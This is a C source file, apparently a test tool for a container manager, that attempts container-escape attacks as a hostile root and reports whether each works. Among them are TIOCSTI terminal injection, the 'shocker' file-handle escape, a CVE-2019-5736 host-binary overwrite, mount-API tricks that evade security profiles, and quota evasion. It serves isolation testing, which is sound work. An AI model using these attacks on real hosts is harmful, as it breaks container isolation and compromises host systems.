/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * What a hostile root in a container tries. Each attack prints "yes" where it works and "no" where
 * it does not, and is run on the host or against something open first, to show that it can.
 *
 *	attack tiocsti | shocker [PATH] | key NAME | exe SECONDS | raw DEVICE
 *	attack newmount FSTYPE:DIR | bind SOURCE:DIR | writable DIR | adrift DIR:FILE
 *	attack subvolume DIR			in a directory on btrfs
 *	attack swap SECONDS:A:B			exchange two names, over and over
 *	attack lease SECONDS:FILE		have others wait that open it
 *	attack project DIR			take it out of its project, for quotas
 *	attack with-key NAME COMMAND ...	on the host: run it with a key in its session
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/btrfs.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

/* Type a character into the terminal of whoever called: with the number as it is, and with high
 * bits that the kernel ignores and a careless filter does not. */
static int tiocsti(const char *arg)
{
	char c = 'x';

	return syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, &c) == 0 ||
	       syscall(SYS_ioctl, 0, TIOCSTI | 1UL << 32, &c) == 0;
}

/* Open the root directory of the file system below by its handle, which needs no path. */
static int shocker(const char *arg)
{
	union {
		struct file_handle h;
		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = { .h.handle_bytes = MAX_HANDLE_SZ };
	int id, dir = open("/", O_RDONLY | O_DIRECTORY), fd;

	if (name_to_handle_at(AT_FDCWD, arg, &u.h, &id, 0) < 0) {
		/* Refused too: guess the handle of inode 2. */
		unsigned int guess[2] = { 2, 0 };

		u.h.handle_bytes = sizeof(guess);
		u.h.handle_type = 1;
		memcpy(u.h.f_handle, guess, sizeof(guess));
	}
	fd = open_by_handle_at(dir, &u.h, O_RDONLY | O_DIRECTORY);
	return fd >= 0;
}

/* By the flags, by the attributes, and, from 6.17 on, by the system call. */
static int project(const char *arg)
{
	struct {
		unsigned long long xflags;
		unsigned int extsize, nextents, projid, cowextsize;
	} a = { .projid = 0 };
	int fd = open(arg, O_RDONLY | O_DIRECTORY), flags = 0, done = 0;
	struct fsxattr x, y;

	if (fd < 0 || ioctl(fd, FS_IOC_FSGETXATTR, &x) < 0)
		return 0;
	if (ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
		flags &= ~FS_PROJINHERIT_FL;
		ioctl(fd, FS_IOC_SETFLAGS, &flags);
	}
	y = x;
	y.fsx_xflags &= ~(unsigned int)FS_XFLAG_PROJINHERIT;
	ioctl(fd, FS_IOC_FSSETXATTR, &y);
	y = x;
	y.fsx_projid++;
	ioctl(fd, FS_IOC_FSSETXATTR, &y);
	if (syscall(468, AT_FDCWD, arg, &a, sizeof(a), 0) == 0) {
		a.projid = x.fsx_projid + 2;
		syscall(469, AT_FDCWD, arg, &a, sizeof(a), 0);
	}
	if (ioctl(fd, FS_IOC_FSGETXATTR, &y) == 0)
		done = y.fsx_projid != x.fsx_projid ||
		       ((x.fsx_xflags ^ y.fsx_xflags) & FS_XFLAG_PROJINHERIT);
	return done;
}

/* A subvolume of its own, which no limit of another counts: by either call, and with high bits. */
static int subvolume(const char *arg)
{
	struct btrfs_ioctl_vol_args a = { .name = "escaped" };
	struct btrfs_ioctl_vol_args_v2 b = { .name = "escaped" };
	int dir = open(arg, O_RDONLY | O_DIRECTORY);

	return syscall(SYS_ioctl, dir, (unsigned long)BTRFS_IOC_SUBVOL_CREATE, &a) == 0 ||
	       syscall(SYS_ioctl, dir, BTRFS_IOC_SUBVOL_CREATE | 1UL << 32, &a) == 0 ||
	       syscall(SYS_ioctl, dir, (unsigned long)BTRFS_IOC_SUBVOL_CREATE_V2, &b) == 0 ||
	       syscall(SYS_ioctl, dir, BTRFS_IOC_SUBVOL_CREATE_V2 | 1UL << 32, &b) == 0;
}

/* What is looked at under a name is soon another thing. */
static int swap(const char *arg)
{
	char *copy = strdup(arg), *a = strchr(copy, ':'), *b = a ? strchr(a + 1, ':') : NULL;
	time_t end = time(NULL) + atol(copy);
	int done = 0;

	if (!b)
		return 0;
	*a++ = *b++ = '\0';
	while (time(NULL) < end)
		done |= renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
	return done;
}

static int lease(const char *arg)
{
	const char *file = strchr(arg, ':');
	int fd = file ? open(file + 1, O_RDWR) : -1;

	signal(SIGIO, SIG_IGN);
	if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) < 0)
		return 0;
	sleep((unsigned int)atol(arg));
	return 1;
}

/* Find a key of the caller's session. */
static int key(const char *name)
{
	return syscall(SYS_request_key, "user", name, NULL, 0) >= 0;
}

static int with_key(char **argv)
{
	if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0 ||
	    syscall(SYS_add_key, "user", argv[0], "secret", 6, -3 /* the session's */) < 0)
		return 125;
	execvp(argv[1], argv + 1);
	return 127;
}

static int is_lxmgr(const char *pid)
{
	char path[300], comm[16] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && read(fd, comm, sizeof(comm) - 1) < 0)
		*comm = '\0';
	close(fd);
	return !strncmp(comm, "lxmgr", 5);
}

#define PINS 64

/* CVE-2019-5736: the program of a process that comes in is a file of the host's. Pin it by O_PATH
 * and open it for writing as soon as nobody runs it. */
static int exe(const char *seconds)
{
	time_t end = time(NULL) + strtol(seconds, NULL, 10);
	long pin[PINS][2] = { 0 }; /* pid, fd */
	size_t next = 0;
	char path[300];

	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			long pid = strtol(e->d_name, NULL, 10);
			size_t i = 0;

			while (i < PINS && pin[i][0] != pid)
				i++;
			if (i < PINS || pid <= 0 || !is_lxmgr(e->d_name))
				continue;
			snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
			if (pin[next][0])
				close((int)pin[next][1]);
			pin[next][1] = open(path, O_PATH | O_CLOEXEC);
			pin[next][0] = pin[next][1] < 0 ? 0 : pid;
			next = (next + 1) % PINS;
		}
		if (d)
			closedir(d);
		for (size_t i = 0; i < PINS; i++) {
			snprintf(path, sizeof(path), "/proc/self/fd/%ld", pin[i][1]);
			if (pin[i][0] && open(path, O_WRONLY | O_CLOEXEC) >= 0)
				return 1;
		}
	}
	return 0;
}

/* Read from a device node that somebody left in the root. */
static int raw(const char *path)
{
	return open(path, O_RDONLY | O_NONBLOCK) >= 0;
}

/* What stands in front of the first colon, and *rest behind it. */
static const char *split(const char *arg, const char **rest)
{
	static char first[256];

	*rest = strchr(arg, ':') + 1;
	snprintf(first, sizeof(first), "%.*s", (int)(*rest - arg - 1), arg);
	return first;
}

/* A file system by fsopen and its like, which name no type and no place where a profile could see
 * both. */
static int newmount(const char *arg)
{
	const char *dir, *type = split(arg, &dir);
	int fs = (int)syscall(SYS_fsopen, type, 0), mnt;

	if (fs < 0 || syscall(SYS_fsconfig, fs, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) < 0)
		return 0;
	mnt = (int)syscall(SYS_fsmount, fs, 0, 0);
	return mnt >= 0 &&
	       syscall(SYS_move_mount, mnt, "", AT_FDCWD, dir, 4 /* F_EMPTY_PATH */) == 0;
}

static int bind(const char *arg)
{
	const char *dir, *source = split(arg, &dir);
	int mnt = (int)syscall(SYS_open_tree, AT_FDCWD, source, 1 /* OPEN_TREE_CLONE */);

	return mnt >= 0 && syscall(SYS_move_mount, mnt, "", AT_FDCWD, dir, 4) == 0;
}

/* Take the read-only flag off a mount. */
static int writable(const char *dir)
{
	unsigned long long attr[4] = { 0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0 };

	return syscall(SYS_mount_setattr, AT_FDCWD, dir, 0, attr, sizeof(attr)) == 0;
}

/* From a directory that is no longer mounted a file has a name of its own: write what it holds. */
static int adrift(const char *arg)
{
	const char *file, *dir = split(arg, &file);
	char data[4096] = "h";
	ssize_t n;
	int fd;

	if (chdir(dir) < 0 || umount2(dir, MNT_DETACH) < 0)
		return 0;
	fd = open(file, O_RDONLY);
	n = fd < 0 ? 1 : read(fd, data, sizeof(data));
	fd = open(file, O_WRONLY);
	n = n > 0 ? n : 1;
	return fd >= 0 && write(fd, data, (size_t)n) == n;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(const char *arg);
	} attacks[] = { { "tiocsti", tiocsti },
			{ "shocker", shocker },
			{ "key", key },
			{ "exe", exe },
			{ "raw", raw },
			{ "newmount", newmount },
			{ "bind", bind },
			{ "writable", writable },
			{ "adrift", adrift },
			{ "swap", swap },
			{ "lease", lease },
			{ "project", project },
			{ "subvolume", subvolume } };

	if (argc > 3 && !strcmp(argv[1], "with-key"))
		return with_key(argv + 2);
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (!strcmp(argv[1], attacks[i].name)) {
			puts(attacks[i].run(argc > 2 ? argv[2] : "/") ? "yes" : "no");
			return 0;
		}
	return 64;
}
